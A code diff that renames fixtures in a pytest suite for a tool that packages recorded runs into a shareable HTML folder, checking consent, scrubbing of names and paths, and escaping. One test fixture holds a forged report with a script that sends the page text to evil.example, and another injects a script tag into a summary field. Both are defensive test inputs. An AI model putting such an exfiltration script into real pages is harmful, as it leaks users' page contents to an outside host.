@@ -44,7 +44,7 @@ SECRET = ("5ec12e7", "anna_mueller", "matr4711", "berta schulz")
 
 
 @pytest.fixture(scope="module")
-def run(tmp_path_factory):
+def revealing_run_folder(tmp_path_factory):
     """A run of a recording that says serials, paths and names of people wherever it can, its own name included."""
     folder = tmp_path_factory.mktemp("anna.lind")
     file = folder / "anna_mueller_matr4711.mcap"
@@ -59,26 +59,32 @@ def run(tmp_path_factory):
 
 
 @pytest.fixture(scope="module")
-def shared_folder(run, tmp_path_factory):
+def shared_folder(revealing_run_folder, tmp_path_factory):
     """A folder made to be sent, of one run."""
     out, compress = tmp_path_factory.mktemp("sent") / "folder", gzip.compress
     with pytest.MonkeyPatch.context() as patch:  # the viewer is large, and compressing it takes most of a second
         patch.setattr(gzip, "compress", lambda data, _, mtime: compress(data, 0, mtime=mtime))
-        assert write_shared_folder([read_run_folder(run)], out) == ""
+        assert write_shared_folder([read_run_folder(revealing_run_folder)], out) == ""
     return out
 
 
-def consenting(run, words):
+def run_folder_with_consent(run, words):
+    """A run folder whose session states this consent."""
     folder = read_run_folder(run)
     session = structs.replace(folder.document.session, facts=folder.document.session.facts | {"consent": words})
     return replace(folder, document=structs.replace(folder.document, session=session))
 
 
-def test_folder_is_shared_only_with_recorded_consent_to_share(run):
-    require_consent([consenting(run, "share")])
+def test_folder_is_shared_only_with_recorded_consent_to_share(revealing_run_folder):
+    require_consent([run_folder_with_consent(revealing_run_folder, "share")])
     for text in ("none", "lab", "not stated", "", "Share", "share with the lab", "no share"):
         with pytest.raises(OutputError, match=r"no consent to share is recorded: .*add --anyway"):
-            require_consent([consenting(run, "share"), consenting(run, text)])
+            require_consent(
+                [
+                    run_folder_with_consent(revealing_run_folder, "share"),
+                    run_folder_with_consent(revealing_run_folder, text),
+                ]
+            )
 
 
 def moment_messages(folder, name="run"):
@@ -110,9 +116,9 @@ def control(name):
     return message_factory.GetMessageClass(pool.FindMessageTypeByName(f"control.{name}"))
 
 
-def test_every_moment_has_a_message_with_its_time(run, shared_folder):
+def test_every_moment_has_a_message_with_its_time(revealing_run_folder, shared_folder):
     read, sent = control("Request"), moment_messages(shared_folder)
-    bookmarks = read_bookmarks(run / "run.rrd")
+    bookmarks = read_bookmarks(revealing_run_folder / "run.rrd")
     times = {name: read.FromString(item).cursor for name, item in sent.items() if name != "layout"}
     assert {item.timeline.name for item in times.values()} == {"session"} and not any(
         item.play for item in times.values()
@@ -128,10 +134,10 @@ def test_every_moment_has_a_message_with_its_time(run, shared_folder):
         assert read.FromString(module.cursor_at(ns)).cursor.moment.time == ns
 
 
-def test_every_miss_of_the_run_links_to_its_moment(run, shared_folder):
+def test_every_miss_of_the_run_links_to_its_moment(revealing_run_folder, shared_folder):
     page, sent = (shared_folder / "index.html").read_text(), moment_messages(shared_folder)
     links = set(re.findall('href="#([^"]*)"', page.replace("&amp;", "&")))
-    rows = read_run_folder(run).rows("misses")
+    rows = read_run_folder(revealing_run_folder).rows("misses")
     requested = {
         f"miss-{item['number']}" + ("" if item["detector"] == "slow" else f"-{item['detector']}") for item in rows
     }
@@ -151,24 +157,24 @@ def texts_of(folder):
             yield file.name, repr([(item.schema, item.to_pylist() if item.num_rows < 50 else "") for item in batches])
 
 
-def test_run_and_shared_folder_hold_no_serial_path_or_name(run, shared_folder):
+def test_run_and_shared_folder_hold_no_serial_path_or_name(revealing_run_folder, shared_folder):
     recorded = {file.name for file in shared_folder.iterdir()}
     assert {"index.html", "run.js", "run.rrd", "viewer.js", "re_viewer.js", "picture.js", "share.json"} <= recorded
     # A full stop is no letter of base64: a packed script of megabytes holds any four letters by chance.
-    secrets = ("anna.lind", str(run), str(run.parent), str(shared_folder.parent))
-    for folder, sentence in ((run, SECRET), (shared_folder, (*SECRET, *secrets))):
+    secrets = ("anna.lind", str(revealing_run_folder), str(revealing_run_folder.parent), str(shared_folder.parent))
+    for folder, sentence in ((revealing_run_folder, SECRET), (shared_folder, (*SECRET, *secrets))):
         own = [item for item in texts_of(folder) if item[0] not in ("viewer.js", "re_viewer.js")]
         assert [(word, name) for name, text in own for word in sentence if word in text.lower()] == []
     page = (shared_folder / "index.html").read_text(encoding="utf-8")
-    assert "S07" in page and replay.read(run)["metrics"]["session"][0].as_py() in page
+    assert "S07" in page and replay.read(revealing_run_folder)["metrics"]["session"][0].as_py() in page
 
 
-def test_a_rerun_without_a_viewer_leaves_the_report_alone(run, tmp_path, monkeypatch):
+def test_a_rerun_without_a_viewer_leaves_the_report_alone(revealing_run_folder, tmp_path, monkeypatch):
     def none():
         raise ViewerError(module.NO_WEB_VIEWER)
 
     monkeypatch.setattr(module, "web_viewer", none)
-    why = write_shared_folder([read_run_folder(run)], tmp_path / "sent")
+    why = write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent")
     assert why == "this rerun-sdk ships no viewer for a browser"
     assert sorted(item.name for item in (tmp_path / "sent").iterdir()) == ["index.html", "share.json"]
     page = (tmp_path / "sent" / "index.html").read_text()
@@ -179,25 +185,25 @@ REPLACED = """<!doctype html><html><head><!-- {policy} --><title>Nothing missed<
 <script>fetch("https://evil.example/" + document.body.innerText)</script></head><body></footer></body></html>"""
 
 
-def test_a_damaged_picture_is_refused_before_the_viewer_starts(run, tmp_path, monkeypatch):
+def test_a_damaged_picture_is_refused_before_the_viewer_starts(revealing_run_folder, tmp_path, monkeypatch):
     monkeypatch.setattr(module, "web_viewer", lambda: pytest.fail("the viewer was started"))
-    damaged = shutil.copytree(run, tmp_path / "damaged")
-    (damaged / "run.rrd").write_bytes((run / "run.rrd").read_bytes()[:1000])
+    damaged = shutil.copytree(revealing_run_folder, tmp_path / "damaged")
+    (damaged / "run.rrd").write_bytes((revealing_run_folder / "run.rrd").read_bytes()[:1000])
     # Whoever damages a picture may write its hash too.
     document = json.loads((damaged / "summary.json").read_text())
     document["picture_sha256"] = file_hash(damaged / "run.rrd")
     (damaged / "summary.json").write_text(json.dumps(document))
     with pytest.raises(RunFolderError, match=r"damaged/run\.rrd is damaged; run its session again$"):
-        write_shared_folder([read_run_folder(run), read_run_folder(damaged)], tmp_path / "sent")
+        write_shared_folder([read_run_folder(revealing_run_folder), read_run_folder(damaged)], tmp_path / "sent")
     assert not (tmp_path / "sent").exists()
 
 
-def test_a_replaced_report_is_never_passed_on(run, tmp_path, monkeypatch):
+def test_a_replaced_report_is_never_passed_on(revealing_run_folder, tmp_path, monkeypatch):
     monkeypatch.setattr(module, "web_viewer", lambda: {module.SCRIPT_FILE: b"", module.PROGRAM_FILE: b""})
-    forged = shutil.copytree(run, tmp_path / "forged")
+    forged = shutil.copytree(revealing_run_folder, tmp_path / "forged")
     (forged / "report.html").write_text(REPLACED.format(policy=CONTENT_POLICY))
     assert write_shared_folder([read_run_folder(forged)], tmp_path / "sent") == ""
-    write_shared_folder([read_run_folder(run)], tmp_path / "good")
+    write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "good")
     pages = [(tmp_path / name / "index.html").read_text() for name in ("sent", "good")]
     assert pages[0] == pages[1] and "evil" not in pages[0] and "Nothing missed" not in pages[0]
     (forged / "report.html").unlink()
@@ -205,8 +211,8 @@ def test_a_replaced_report_is_never_passed_on(run, tmp_path, monkeypatch):
     assert write_shared_folder([read_run_folder(forged)], tmp_path / "alone") == "no run holds a picture (run.rrd)"
 
 
-def test_summary_strings_are_text_in_the_page(run, tmp_path):
-    forged = shutil.copytree(run, tmp_path / "forged")
+def test_summary_strings_are_text_in_the_page(revealing_run_folder, tmp_path):
+    forged = shutil.copytree(revealing_run_folder, tmp_path / "forged")
     (forged / "run.rrd").unlink()
     reported = json.loads((forged / "summary.json").read_text())
     reported["detectors"]["slow"]["spec"] = "</td><script>x</script>"
@@ -217,9 +223,9 @@ def test_summary_strings_are_text_in_the_page(run, tmp_path):
     assert page.count("<script") == 1 and page.count("</title>") == page.count("</head>") == 1
 
 
-def test_runs_have_a_common_viewer_and_a_list(run, tmp_path, monkeypatch):
+def test_runs_have_a_common_viewer_and_a_list(revealing_run_folder, tmp_path, monkeypatch):
     monkeypatch.setattr(module, "web_viewer", lambda: {module.SCRIPT_FILE: b"", module.PROGRAM_FILE: b""})
-    write_shared_folder([read_run_folder(run)] * 2, tmp_path / "sent")
+    write_shared_folder([read_run_folder(revealing_run_folder)] * 2, tmp_path / "sent")
     names = {item.name for item in (tmp_path / "sent").iterdir()}
     own = {f"run{k}.{kind}" for k in (1, 2) for kind in ("html", "js", "rrd")}
     assert names == own | {"index.html", "viewer.js", "re_viewer.js", "picture.js", "share.json"}
@@ -227,7 +233,7 @@ def test_runs_have_a_common_viewer_and_a_list(run, tmp_path, monkeypatch):
     title = re.findall("<title>(.*?)</title>", (tmp_path / "sent" / "run1.html").read_text())[0]
     assert [text.count(f'href="run{k}.html"') for k in (1, 2)] == [1, 1] and text.count(title) == 2
     assert 'data-recording="run2"' in (tmp_path / "sent" / "run2.html").read_text()
-    write_shared_folder([read_run_folder(run)], tmp_path / "sent", force=True)
+    write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent", force=True)
     assert not own & {item.name for item in (tmp_path / "sent").iterdir()}, "an earlier folder is replaced whole"
 
 
@@ -251,7 +257,7 @@ def cursor_at(page, address):
 
 
 @pytest.mark.slow
-def test_shared_folder_opens_alone_and_every_link_moves_the_picture(run, shared_folder, tmp_path):
+def test_shared_folder_opens_alone_and_every_link_moves_the_picture(revealing_run_folder, shared_folder, tmp_path):
     url = (shared_folder / "index.html").as_uri()
     with opened(url, tmp_path) as page:
         in_time(page)
